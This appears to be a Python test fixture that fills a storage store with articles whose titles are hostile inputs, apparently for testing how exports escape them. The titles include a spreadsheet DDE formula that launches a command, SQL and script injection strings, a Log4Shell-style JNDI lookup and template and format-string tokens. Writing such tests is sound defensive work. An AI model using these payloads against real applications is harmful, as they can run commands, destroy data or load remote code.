"""A store whose titles and texts were written by people who mean no good."""

from pathlib import Path

from storage import snapshot
from storage.store import Store
from tests.storage.sample_records import article, fill
from wirecopy.show.rows import unturned

TITLES = {
    101: 'He said "no", then,\r\nleft; tab\there',
    102: "=cmd|' /C calc'!A0",
    103: "+1+1",
    104: "-2+3",
    105: "@SUM(A1:A9)",
    106: "\t=1+1",
    107: "\r=1+1",
    108: "NUL \x00 bell \x07 escape \x1b[31mred",
    109: "<script>alert(1)</script> &amp; ]]> <!-- ' \"",
    110: "🦊 👩\u200d👩\u200d👧 naïve Ünïcödé 日本語",
    111: "مرحبا \u202eecilam\u202c שלום",
    112: "_x0041_ is no A, _x000D_ no return",
    113: "  spaces around  ",
    114: "'apostrophe first",
    115: "not a character \ufffe \uffff",
    116: "'; DROP TABLE articles; --",
    117: "${jndi:ldap://x.example/a} {{7*7}} %s %n",
    118: "\u00a0=1+1",
    119: "\u200b\ufeff @SUM(A1)",
    120: "\uff1d1+1",
    121: " \u202d-1",
}
TURNED = {n: unturned(title) for n, title in TITLES.items()}  # as other programs may show them
# What XML 1.0 has no spelling for.
NO_XML = dict.fromkeys([*range(0x20), 0xFFFE, 0xFFFF], 0xFFFD) | {9: 9, 10: 10, 13: 13}


def make(path: Path) -> None:
    """The sample records, and an article for each of TITLES; copies.copy_title has one of them."""
    with Store.open(path) as store:
        fill(store)
        store.insert("articles", [article(n, title=t, text=t) for n, t in TITLES.items()])
        snapshot.publish(store)
